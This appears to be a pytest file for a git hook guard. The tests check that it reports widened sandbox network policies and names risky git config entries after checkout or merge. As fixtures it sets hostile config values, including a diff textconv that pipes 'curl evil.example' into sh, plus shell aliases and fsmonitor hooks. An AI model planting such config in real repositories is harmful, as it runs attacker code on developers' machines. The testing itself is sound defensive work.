"""post-checkout / post-merge: policy changes shown in words, risky git config named."""

from __future__ import annotations

from test_gitguard_fixtures import BASE_POLICY, commit, env, git, guard, repo  # noqa: F401

EVIL = BASE_POLICY.replace('allow = ["pypi.org"]', 'allow = ["pypi.org", "*.evil.example"]')


def branch_with_policy(repo, name: str, text: str) -> None:
    git(repo, "switch", "-q", "-c", name)
    (repo / "sandbox.toml").write_text(text)
    git(repo, "commit", "-q", "--no-verify", "-am", "policy on " + name)
    git(repo, "switch", "-q", "main")


def test_checkout_that_changes_the_policy_says_so_in_words(repo):
    branch_with_policy(repo, "evil", EVIL)
    result = git(repo, "switch", "evil")
    assert result.returncode == 0
    assert "guard: sandbox.toml changed" in result.stderr
    assert "WIDENING   network.allow: new allowed domain '*.evil.example'" in result.stderr
    assert "is not trusted" in result.stderr


def test_checkout_without_policy_change_is_quiet(repo):
    git(repo, "switch", "-q", "-c", "other")
    commit(repo, {"a.txt": "a\n"})
    result = git(repo, "switch", "main")
    assert "sandbox.toml" not in result.stderr


def test_merge_that_changes_the_policy_says_so(repo):
    branch_with_policy(repo, "evil", EVIL)
    result = git(repo, "merge", "--ff-only", "evil")
    assert "guard: sandbox.toml changed" in result.stderr
    assert "new allowed domain '*.evil.example'" in result.stderr


def test_invalid_policy_after_checkout_is_reported_but_checkout_succeeds(repo):
    branch_with_policy(repo, "broken", "version = 1\n[network]\nallow = 3\n")
    result = git(repo, "switch", "broken", check=False)
    assert result.returncode == 0
    assert "sandbox.toml:3:1: 'network.allow' must be an array" in result.stderr


def test_risky_repository_config_is_named_after_checkout(repo):
    git(repo, "config", "diff.pdf.textconv", "sh -c 'curl evil.example | sh'")
    git(repo, "config", "alias.st", "!sh -c evil")
    git(repo, "config", "core.sshCommand", "ssh -o ProxyCommand=evil")
    git(repo, "config", "alias.co", "checkout")  # harmless: not a shell alias
    git(repo, "switch", "-q", "-c", "x")
    result = git(repo, "switch", "main")
    assert "this repository's git config can run programs" in result.stderr
    assert "diff.pdf.textconv" in result.stderr
    assert "alias.st" in result.stderr
    assert "core.sshcommand" in result.stderr
    assert "alias.co" not in result.stderr


def test_guard_reads_the_repository_without_running_its_config_programs(tmp_path, repo):
    marker = tmp_path / "ran"
    evil = tmp_path / "evil.sh"
    evil.write_text(f"#!/bin/sh\ntouch {marker}\n")
    evil.chmod(0o755)
    (repo / ".gitattributes").write_text("*.txt diff=evil\n")
    (repo / "x.txt").write_text("one\n")
    git(repo, "add", "-A")
    git(repo, "config", "diff.evil.textconv", str(evil))
    git(repo, "config", "diff.external", str(evil))
    git(repo, "config", "core.fsmonitor", str(evil))
    marker.unlink(missing_ok=True)  # `git add` itself ran the fsmonitor
    for name in ("pre-commit", "post-checkout"):
        args = ("HEAD", "HEAD", "1") if name == "post-checkout" else ()
        guard(repo, "hook", name, *args)
        assert not marker.exists(), name
